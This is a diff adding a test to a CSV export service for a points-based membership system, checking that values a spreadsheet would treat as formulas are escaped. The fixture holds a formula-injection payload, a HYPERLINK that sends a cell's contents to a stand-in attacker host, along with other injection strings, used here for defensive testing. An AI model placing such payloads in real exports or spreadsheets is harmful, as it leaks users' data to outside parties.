@@ -2,7 +2,7 @@ import { sql } from 'drizzle-orm';
 import { describe, expect, it } from 'vitest';
 import { createMember } from '../../../test/factories.js';
 import { useTestDatabase } from '../../../test/helper.js';
-import { earnPoints } from '../points/point-service.js';
+import { earnPoints, spendPoints } from '../points/point-service.js';
 import { ledgerRangeOf, openExport } from './export-service.js';
 
 const context = useTestDatabase();
@@ -31,6 +31,24 @@ describe('CSV exports', () => {
     expect(line).toBe(
       `${member.mbkMemberId},active,1,สมชาย,"ใจดี, ""ตัวจริง""",${member.email},,75,${member.createdAt.toISOString()}`,
     );
+  });
+
+  it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
+    const { orm, pool } = context.database;
+    const member = await createMember(orm, { firstName: '=HYPERLINK("http://evil.example/?x="&E2,"Click")', lastName: '@SUM(1+1)' });
+    await earnPoints(orm, { memberId: member.id, amount: 20, source: 'code', reason: '+cmd', expiresAt: LATER });
+    await spendPoints(orm, { memberId: member.id, amount: 5, source: 'redemption', reason: '-2+3' });
+
+    const members = await readAll(await openExport(pool, { kind: 'members', filters: {} }));
+    const ledger = await readAll(await openExport(pool, { kind: 'ledger', filters: {} }));
+
+    const line = members.split('\n').find((row) => row.startsWith(member.mbkMemberId));
+    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&E2,""Click"")",'@SUM(1+1),`);
+    const entries = ledger.split('\n').filter((row) => row.includes(`,${member.mbkMemberId},`));
+    expect(entries.map((row) => row.split(',').slice(4, 6))).toEqual([
+      ['20', "'+cmd"],
+      ['-5', "'-2+3"],
+    ]);
   });
 
   it('limits the ledger export to Asia/Bangkok days, both ends included', async () => {
